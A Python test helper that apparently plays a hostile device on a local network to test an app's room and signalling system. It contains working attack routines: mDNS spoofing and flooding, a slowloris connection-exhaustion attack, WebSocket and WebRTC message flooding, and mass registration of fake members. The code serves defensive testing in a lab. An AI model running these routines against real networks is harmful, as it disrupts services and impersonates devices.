"""A hostile (or buggy) device on the room's network, for tests only.

Run inside a lab namespace (never elsewhere): `attacker.py <mode> '<json args>'`.
It speaks mDNS, WebSocket and WebRTC by hand, prints one JSON object per line
(its observations), sends only to the lab addresses it is given, and stops by
itself after a bounded number of packets or seconds.

Modes:
  mdns       read JSON commands on stdin: {"op": "packet", "records": [...]} sends
             hand-made records; {"op": "flood", ...} sends many forged ones.
  slowloris  hold many half-open HTTP connections to host:port for hold_s seconds.
  ws         a WebSocket client that sends the frames it is told (JSON on stdin);
             `origin`: the Origin header a web page would send.
  members    register `count` members of an open room from this one address,
             each with its own identity, and keep them alive for `hold_s`.
  rtc        an open-room member: registers, opens a channel to `target`, then
             sends what it is told over it (oversize or flooding messages).
"""

from __future__ import annotations

import asyncio
import json
import random
import socket
import sys
import time
import uuid
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

SERVICE = "_mobile-worship._tcp.local."
MDNS = ("224.0.0.251", 5353)
MAX_PACKETS = 200_000
MAX_SECONDS = 900.0


def say(**event: Any) -> None:
    print(json.dumps(event), flush=True)


# ---------------------------------------------------------------------- mDNS


def _records(ip: str, spec: dict[str, Any]) -> list[Any]:
    from zeroconf._dns import DNSAddress, DNSPointer, DNSService, DNSText

    label = spec["label"]
    name, server = f"{label}.{SERVICE}", f"{label}.local."
    ttl = spec.get("ttl", 120)
    out: list[Any] = []
    parts = spec.get("parts", ["ptr", "srv", "txt", "a"])
    if "ptr" in parts:
        out.append(DNSPointer(SERVICE, 12, 1, spec.get("ptr_ttl", ttl), name))
    if "srv" in parts:
        out.append(DNSService(name, 33, 0x8001, ttl, 0, 0, spec.get("port", 3010), server))
    if "txt" in parts:
        entries = [
            f"{k}={v}".encode() if v is not None else k.encode() for k, v in spec["txt"].items()
        ]
        blob = b"".join(bytes([len(e)]) + e for e in entries)
        out.append(DNSText(name, 16, 0x8001, ttl, blob))
    if "a" in parts:
        address = spec.get("address", ip)
        out.append(DNSAddress(server, 1, 0x8001, ttl, socket.inet_aton(address)))
    return out


def _send(sock: socket.socket, records: list[Any]) -> int:
    from zeroconf._protocol.outgoing import DNSOutgoing

    out = DNSOutgoing(0x8400)
    for record in records:
        out.add_answer_at_time(record, 0)
    sent = 0
    for packet in out.packets():
        sock.sendto(packet, MDNS)
        sent += 1
    return sent


def _capture(ip: str, label: str, within: float) -> dict[str, str | None] | None:
    """Listen to the room's mDNS until a TXT record of `label` goes by; its entries."""
    from zeroconf._protocol.incoming import DNSIncoming

    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    listener.bind(("0.0.0.0", 5353))
    membership = socket.inet_aton(MDNS[0]) + socket.inet_aton(ip)
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
    listener.settimeout(0.5)
    deadline = time.monotonic() + within
    try:
        while time.monotonic() < deadline:
            try:
                data, _ = listener.recvfrom(9000)
            except TimeoutError:
                continue
            for record in DNSIncoming(data).answers():
                if record.type == 16 and record.name.lower().startswith(label.lower()):
                    text: bytes = record.text  # type: ignore[attr-defined]
                    entries: dict[str, str | None] = {}
                    pos = 0
                    while pos < len(text):
                        entry = text[pos + 1 : pos + 1 + text[pos]].decode()
                        pos += 1 + text[pos]
                        key, sep, value = entry.partition("=")
                        entries[key] = value if sep else None
                    return entries
    finally:
        listener.close()
    return None


def _listen(ip: str, port: int) -> None:
    """Accept TCP on ip:port in the background, reporting each connection."""
    import threading

    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((ip, port))
    server.listen(16)

    def accept() -> None:
        while True:
            conn, peer = server.accept()
            say(event="connection", peer=peer[0])
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    say(event="listening", port=port)


def mdns(ip: str) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((ip, 5353))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ip))
    say(event="ready")
    total = 0
    for line in sys.stdin:
        cmd = json.loads(line)
        if cmd["op"] == "packet":
            for spec in cmd["records"]:
                total += _send(sock, _records(ip, spec))
            say(event="sent", total=total)
        elif cmd["op"] == "flood":
            # Forged peers: random ids, each with whatever parts were asked for.
            count = min(int(cmd["count"]), MAX_PACKETS - total)
            rate = float(cmd.get("rate", 500))
            started = time.monotonic()
            for n in range(count):
                label = str(uuid.uuid4())
                spec = {**cmd.get("template", {}), "label": label}
                txt = dict(spec.get("txt", {}))
                if txt:
                    txt["id"] = label
                    spec["txt"] = txt
                total += _send(sock, _records(ip, spec))
                delay = started + (n + 1) / rate - time.monotonic()
                if delay > 0:
                    time.sleep(delay)
            say(event="flooded", total=total, seconds=time.monotonic() - started)
        elif cmd["op"] == "capture":
            say(event="captured", txt=_capture(ip, cmd["label"], float(cmd.get("within", 10))))
        elif cmd["op"] == "listen":
            _listen(ip, int(cmd["port"]))
        if total >= MAX_PACKETS:
            break


# ----------------------------------------------------------------- slowloris


async def slowloris(host: str, port: int, count: int, hold_s: float) -> None:
    hold_s = min(hold_s, MAX_SECONDS)
    writers: list[asyncio.StreamWriter] = []
    refused = 0
    deadline = time.monotonic() + hold_s
    for _ in range(count):
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 2.0)
            writer.write(b"GET /signal HTTP/1.1\r\nHost: x\r\n")  # and never the rest
            writers.append(writer)
        except (OSError, TimeoutError):
            refused += 1
    say(event="opened", attempted=count, refused_at_connect=refused)
    while time.monotonic() < deadline:
        await asyncio.sleep(1.0)  # holding the connections is the attack
        alive = 0
        for writer in writers:
            if not writer.is_closing():
                try:
                    writer.write(b"X")  # a trickle, as slowloris does
                    await asyncio.wait_for(writer.drain(), 0.2)
                    alive += 1
                except (OSError, TimeoutError):
                    writer.close()
        say(event="holding", alive=alive)
    for writer in writers:
        writer.close()
    say(event="done")


# ------------------------------------------------------------------ WebSocket


async def ws(url: str, origin: str | None = None) -> None:
    import aiohttp

    async with aiohttp.ClientSession() as session:
        try:
            sock = await session.ws_connect(url, max_msg_size=0, origin=origin)
        except aiohttp.WSServerHandshakeError as exc:
            say(event="refused", status=exc.status)
            return
        async with sock:
            await _ws_session(sock)


async def _ws_session(sock: Any) -> None:
    import aiohttp

    say(event="connected")

    async def reader() -> None:
        async for msg in sock:
            if msg.type is aiohttp.WSMsgType.TEXT:
                say(event="frame", frame=json.loads(msg.data))
        say(event="closed", code=sock.close_code)

    reading = asyncio.create_task(reader())
    loop = asyncio.get_running_loop()
    started = time.monotonic()
    while time.monotonic() - started < MAX_SECONDS:
        line = await loop.run_in_executor(None, sys.stdin.readline)
        if not line:
            break
        cmd = json.loads(line)
        for _ in range(min(int(cmd.get("repeat", 1)), MAX_PACKETS)):
            if sock.closed:
                break
            await sock.send_str(cmd["text"] if "text" in cmd else json.dumps(cmd["frame"]))
        say(event="sent")
    await sock.close()
    await asyncio.wait_for(reading, 5)


def _register(me: Any, peer: Any, room: str, nonce: str) -> str:
    """An open room's `register` frame of `peer`, signed by its identity `me`."""
    from sidecar.contract import Register
    from sidecar.core.identity import registration_statement
    from sidecar.core.signaling import encode_signal

    statement = registration_statement(nonce, me.peer_id, room, 1)
    signature = me.sign(statement)
    frame = Register(peer=peer, room=room, identity=me.public_key, signature=signature, seq=1)
    return encode_signal(frame)


async def members(args: dict[str, Any]) -> None:
    """Register `count` members from this address, one connection each (one at a
    time: the leader admits few half-open connections per address), then keep
    them alive with heartbeats for `hold_s` seconds."""
    import aiohttp

    from sidecar.contract import Challenge, Heartbeat, SignalPeer, decode_signal
    from sidecar.core.identity import Identity
    from sidecar.core.signaling import encode_signal

    count, hold_s = min(int(args["count"]), 64), min(float(args["hold_s"]), MAX_SECONDS)
    async with aiohttp.ClientSession() as session:
        kept: list[Any] = []
        codes: dict[str, int] = {}
        for n in range(count):
            me = Identity()
            sock = await session.ws_connect(args["url"])
            challenge = decode_signal((await sock.receive()).data)
            assert isinstance(challenge, Challenge)
            peer = SignalPeer(
                peer_id=me.peer_id,
                name=f"Fake {n}",
                peer_type=args.get("peer_type", "controller"),
                display_class=None,
                started_at=int(time.time() * 1000),
                addresses=[args["ip"]],
                port=0,
            )
            await sock.send_str(_register(me, peer, args["room"], challenge.nonce))
            answer = json.loads((await sock.receive()).data)
            kind = answer.get("code", answer["type"])
            codes[kind] = codes.get(kind, 0) + 1
            if answer["type"] == "registered":
                kept.append(sock)
            else:
                await sock.close()
        say(event="registered", counts=codes)
        started, seq = time.monotonic(), 0
        while time.monotonic() - started < hold_s:
            seq += 1
            for sock in kept:
                if not sock.closed:
                    await sock.send_str(encode_signal(Heartbeat(seq=seq, term=0)))
            await asyncio.sleep(1.0)
        alive = sum(1 for sock in kept if not sock.closed)
        for sock in kept:
            await sock.close()
        say(event="done", alive=alive)


# -------------------------------------------------------------------- WebRTC


async def rtc(args: dict[str, Any]) -> None:
    """Join an open room as a member with its own identity, open the channel to
    `target` (as the pair's offerer: it picks an identity whose id sorts lower),
    then do what it is told over the channel."""
    import aiohttp
    from aiortc import RTCConfiguration, RTCPeerConnection, RTCSessionDescription

    from sidecar.contract import Challenge, Offer, SignalPeer, decode_signal
    from sidecar.core.identity import Identity
    from sidecar.core.signaling import encode_signal

    target = args["target"]
    me = Identity()
    for _ in range(10_000):  # ids are hashes: a few tries give one that sorts first
        if me.peer_id < target:
            break
        me = Identity()
    peer = SignalPeer(
        peer_id=me.peer_id,
        name="Guest phone",
        peer_type="controller",
        display_class=None,
        started_at=int(time.time() * 1000),
        addresses=[args["ip"]],
        port=0,
    )
    pc = RTCPeerConnection(RTCConfiguration(iceServers=[]))
    channel = pc.createDataChannel("live-control", negotiated=True, id=0, ordered=True)
    opened = asyncio.Event()
    channel.on("open", opened.set)
    channel.on("close", lambda: say(event="channel_closed"))
    received: list[str] = []
    channel.on("message", lambda m: received.append(m if isinstance(m, str) else "<bytes>"))
    async with aiohttp.ClientSession() as session, session.ws_connect(args["url"]) as sock:
        challenge = decode_signal((await sock.receive()).data)
        assert isinstance(challenge, Challenge)
        await sock.send_str(_register(me, peer, args["room"], challenge.nonce))
        say(
            event="registered",
            frame=json.loads((await sock.receive()).data)["type"],
            peer_id=me.peer_id,
        )
        await pc.setLocalDescription(await pc.createOffer())
        offer = Offer(
            from_=me.peer_id, to=target, sdp=pc.localDescription.sdp, link="hostile1", epoch=1
        )
        await sock.send_str(encode_signal(offer))
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            frame = json.loads((await asyncio.wait_for(sock.receive(), 10)).data)
            if frame.get("type") == "answer":
                await pc.setRemoteDescription(RTCSessionDescription(frame["sdp"], "answer"))
                break
        await asyncio.wait_for(opened.wait(), 10)
        channel.send(json.dumps({"type": "sync", "received": 0}))
        say(event="open")
        loop = asyncio.get_running_loop()
        while True:
            line = await loop.run_in_executor(None, sys.stdin.readline)
            if not line:
                break
            cmd = json.loads(line)
            for n in range(min(int(cmd.get("repeat", 1)), MAX_PACKETS)):
                if channel.readyState != "open":
                    break
                text = cmd["text"].replace("{n}", str(n))
                channel.send(text)
                if n % 50 == 0:
                    await asyncio.sleep(0)  # let aiortc put them on the wire
            await asyncio.sleep(float(cmd.get("then_wait", 0.5)))
            say(event="sent", channel=channel.readyState, received=len(received))
        await pc.close()


def main() -> None:
    mode, raw = sys.argv[1], json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
    random.seed()
    if mode == "mdns":
        mdns(raw["ip"])
    elif mode == "slowloris":
        asyncio.run(
            slowloris(raw["target"], int(raw["port"]), int(raw["count"]), float(raw["hold_s"]))
        )
    elif mode == "ws":
        asyncio.run(ws(raw["url"], raw.get("origin")))
    elif mode == "members":
        asyncio.run(members(raw))
    elif mode == "rtc":
        asyncio.run(rtc(raw))
    else:
        raise SystemExit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
